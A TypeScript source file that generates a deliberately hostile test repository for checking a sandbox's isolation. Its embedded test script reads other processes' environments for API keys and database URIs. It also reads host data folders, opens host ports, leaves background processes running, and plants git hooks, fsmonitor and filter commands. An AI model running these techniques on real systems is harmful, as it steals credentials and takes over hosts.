/*
 * A repository whose test is an attacker: `hostile.test.mjs` (run by `node --test` in a
 * health scan's coverage run, or directly as a task's verification check) tries every way
 * out of the sandbox that issue 14 found and records each attempt's outcome. It writes
 * `attempts.json` (the outcomes) and `loot.txt` (everything it managed to read) into its
 * working copy, then waits until its `release` file there has content: the test, outside,
 * reads both while the working copy still exists (a scan deletes its copy afterwards) and
 * then releases it.
 */

export interface HostileTargets {
  /** Ports on the host's 127.0.0.1: the service's HTTP port, the database, a test listener. */
  ports: Record<string, number>;
  /** Unix sockets on the host (the embedded database's), tried by path. */
  sockets: string[];
  /** The host's own non-loopback addresses (private ranges), tried on the service's port. */
  hostAddresses: string[];
  dataDir: string;
  /** A file the test planted in DATA_DIR; reading or listing it is an escape. */
  plantedName: string;
  serviceRoot: string;
  /** Host paths outside the working copy the script tries to create. */
  outsideMarkers: string[];
  /** A host folder planted hooks, fsmonitor and filters would write a marker into. */
  hookMarkerDir: string;
  /** Marks the background processes it leaves behind, so the test can look for them. */
  token: string;
}

export interface Attempt {
  name: string;
  escaped: boolean;
  detail: string;
}

const HOOKS = [
  "pre-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "pre-push",
  "post-checkout",
  "post-merge",
  "post-rewrite",
  "reference-transaction",
  "post-index-change",
  "pre-auto-gc",
  "fsmonitor-watchman",
];

const SCRIPT = String.raw`import { test } from "node:test";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";
import { execFileSync, spawn } from "node:child_process";

const T = JSON.parse(fs.readFileSync(new URL("./targets.json", import.meta.url), "utf8"));
const HOOKS = ${JSON.stringify(HOOKS)};
const attempts = [];
const loot = [];

function record(name, escaped, detail) {
  attempts.push({ name, escaped, detail: String(detail).slice(0, 300) });
}
function attempt(fn) {
  try {
    return { ok: true, value: fn() };
  } catch (error) {
    return { ok: false, error: error.code || String(error.message).split("\n")[0] };
  }
}
function connect(host, port) {
  return connectTo({ host, port });
}

function connectTo(options) {
  return new Promise((resolve) => {
    const socket = net.connect(options);
    const done = (outcome) => {
      socket.destroy();
      resolve(outcome);
    };
    socket.setTimeout(2000, () => done({ ok: false, error: "timeout" }));
    socket.on("connect", () => done({ ok: true }));
    socket.on("error", (error) => done({ ok: false, error: error.code }));
  });
}

async function attack() {
  // 1. Every visible process's environment (the service's holds its keys).
  let readable = 0;
  let serviceLike = 0;
  for (const pid of fs.readdirSync("/proc").filter((n) => /^\d+$/.test(n))) {
    const env = attempt(() => fs.readFileSync("/proc/" + pid + "/environ", "latin1"));
    if (!env.ok) continue;
    readable++;
    loot.push(env.value);
    if (/LLM_API_KEY|WEBHOOK_SECRET|MONGODB_URI|FOREMAN_CANARY/.test(env.value)) serviceLike++;
  }
  record("read /proc/*/environ", serviceLike > 0, readable + " readable, " + serviceLike + " of the service");

  // 2. DATA_DIR: other accounts' working copies and the planted file.
  const listing = attempt(() => fs.readdirSync(T.dataDir));
  record("list DATA_DIR", listing.ok && listing.value.includes(T.plantedName), listing.ok ? listing.value.join(",") : listing.error);
  const planted = attempt(() => fs.readFileSync(path.join(T.dataDir, T.plantedName), "utf8"));
  if (planted.ok) loot.push(planted.value);
  record("read a file in DATA_DIR", planted.ok, planted.ok ? "read" : planted.error);
  const work = attempt(() => fs.readdirSync(path.join(T.dataDir, "work"), { recursive: true }));
  record("list DATA_DIR/work", work.ok && work.value.some((p) => p.includes(T.plantedName)), work.ok ? work.value.length + " entries" : work.error);

  // 3. The service's own checkout.
  const service = attempt(() => fs.readFileSync(path.join(T.serviceRoot, "package.json"), "utf8"));
  record("read the service checkout", service.ok, service.ok ? "read" : service.error);

  // 4. Writes outside the working copy.
  for (const marker of T.outsideMarkers) {
    const written = attempt(() => fs.writeFileSync(marker, "escaped"));
    record("write " + marker, written.ok, written.ok ? "written" : written.error);
  }

  // 5. The host's listeners: the service, the database, the test's own, on loopback and on
  //    the host's private addresses.
  for (const [name, port] of Object.entries(T.ports)) {
    const outcome = await connect("127.0.0.1", port);
    record("connect " + name + " on 127.0.0.1:" + port, outcome.ok, outcome.ok ? "connected" : outcome.error);
  }
  for (const address of T.hostAddresses) {
    const outcome = await connect(address, T.ports.service);
    record("connect service on " + address, outcome.ok, outcome.ok ? "connected" : outcome.error);
  }
  // The embedded database listens on a Unix socket in a private folder only.
  for (const socketPath of T.sockets) {
    const outcome = await connectTo({ path: socketPath });
    record("connect database socket " + socketPath, outcome.ok, outcome.ok ? "connected" : outcome.error);
  }

  // 6. Processes left behind, one of them in a session of its own.
  for (const args of [["sh", "-c", "sleep 300; : " + T.token], ["setsid", "sh", "-c", "sleep 300; : " + T.token]]) {
    const child = spawn(args[0], args.slice(1), { detached: true, stdio: "ignore" });
    child.unref();
  }
  record("leave processes behind", false, "started; the test looks for them on the host");

  // 7. Plant code for the service's own git: hooks, fsmonitor, filters.
  const touch = (what) => "touch " + path.join(T.hookMarkerDir, what);
  for (const hook of HOOKS) {
    const file = path.join(".git", "hooks", hook);
    const planted = attempt(() => fs.writeFileSync(file, "#!/bin/sh\n" + touch("hook-" + hook) + "\n", { mode: 0o755 }));
    record("plant hook " + hook, planted.ok, planted.ok ? "written" : planted.error);
  }
  const config = "\n[core]\n\tfsmonitor = " + JSON.stringify(touch("fsmonitor")) + "\n\thooksPath = " + JSON.stringify(path.resolve("evil-hooks")) + "\n[filter \"evil\"]\n\tclean = " + JSON.stringify(touch("filter-clean")) + "\n\tsmudge = " + JSON.stringify(touch("filter-smudge")) + "\n";
  const appended = attempt(() => fs.appendFileSync(path.join(".git", "config"), config));
  record("append fsmonitor/filter/hooksPath to .git/config", appended.ok, appended.ok ? "written" : appended.error);
  const viaGit = attempt(() => execFileSync("git", ["config", "core.fsmonitor", touch("fsmonitor-git")], { stdio: "pipe" }));
  record("git config core.fsmonitor", viaGit.ok, viaGit.ok ? "set" : viaGit.error);
  const attributes = attempt(() => fs.writeFileSync(path.join(".git", "info", "attributes"), "* filter=evil\n"));
  record("write .git/info/attributes", attributes.ok, attributes.ok ? "written" : attributes.error);
  const moved = attempt(() => fs.renameSync(".git", ".git-moved"));
  record("replace .git", moved.ok, moved.ok ? "renamed" : moved.error);
  // The working tree is the command's to change; these only matter if the config above took.
  fs.mkdirSync("evil-hooks", { recursive: true });
  for (const hook of HOOKS)
    fs.writeFileSync(path.join("evil-hooks", hook), "#!/bin/sh\n" + touch("hookspath-" + hook) + "\n", { mode: 0o755 });
  fs.writeFileSync(".gitattributes", "* filter=evil\n");
}

test("hostile", { timeout: 120000 }, async () => {
  try {
    await attack();
  } catch (error) {
    record("script", true, "the attack itself broke: " + error.stack);
  }
  // Made here, before the test can see attempts.json, and written to by the test: the
  // working copy is the upper layer of an overlay mount, which does not show files the host
  // creates in it while mounted, but does show new content of a file made through it.
  fs.writeFileSync("release", "");
  fs.writeFileSync("loot.txt", loot.join("\n"));
  fs.writeFileSync("attempts.json", JSON.stringify(attempts, null, 2));
  console.log("ATTEMPTS " + JSON.stringify(attempts));
  const until = Date.now() + 90000;
  while (fs.readFileSync("release", "utf8") === "" && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
});
`;

/** The repository's files: a node --test project whose one test is the attack. */
export function hostileRepoFiles(targets: HostileTargets): Record<string, string> {
  return {
    "package.json": `${JSON.stringify(
      {
        name: "hostile",
        version: "1.0.0",
        private: true,
        type: "module",
        scripts: { test: "node --test hostile.test.mjs" },
      },
      null,
      2,
    )}\n`,
    "hostile.test.mjs": SCRIPT,
    "targets.json": `${JSON.stringify(targets, null, 2)}\n`,
    "index.mjs": "export const answer = 42;\n",
    ".github/foreman.yml": "verify:\n  - name: hostile\n    run: npm test\n",
    "README.md": "# hostile\n",
  };
}

/** The hooks the script plants, for checking that none of them ran. */
export const PLANTED_HOOKS = HOOKS;
